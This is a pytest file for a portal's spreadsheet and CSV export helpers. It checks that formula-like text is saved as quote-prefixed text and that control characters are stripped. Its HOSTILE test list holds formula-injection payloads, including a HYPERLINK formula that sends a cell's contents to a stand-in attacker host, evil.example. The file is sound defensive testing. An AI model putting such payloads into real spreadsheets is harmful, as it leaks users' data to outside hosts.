"""The cell helpers every .xlsx writer uses: text stays text, formula-like text is quote-prefixed, XML-unsafe
characters never reach the file."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from whitelist_portal.plaintext import csv_cell
from whitelist_portal.spreadsheet import put_text, text_row

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B5,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _reopen(workbook):
    out = io.BytesIO()
    workbook.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


@pytest.mark.parametrize("value", HOSTILE[:-1])  # XML itself reads a CR as a line feed
def test_a_write_only_cell_keeps_formula_like_text_as_quoted_text(value):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("表")
    ws.append(text_row(ws, [value, "普通文字", 7]))
    formula_like, plain, number = _reopen(wb)[1]
    assert formula_like.value == value and formula_like.data_type == "s" and formula_like.quotePrefix
    assert plain.value == "普通文字" and plain.data_type == "s" and not plain.quotePrefix
    assert number.value == 7 and number.data_type == "n"


def test_a_normal_cell_is_set_back_to_text_and_loses_xml_unsafe_characters():
    wb = Workbook()
    put_text(wb.active["A1"], "=1+1")
    put_text(wb.active["A2"], "标题\x0b带\x00控制符")
    sheet = _reopen(wb)
    assert sheet["A1"].value == "=1+1" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["A2"].value == "标题带控制符"


def test_a_csv_cell_gets_the_owasp_quote_prefix():
    assert [csv_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert csv_cell("标题\x0b") == "标题" and csv_cell(3) == 3 and csv_cell(None) == ""
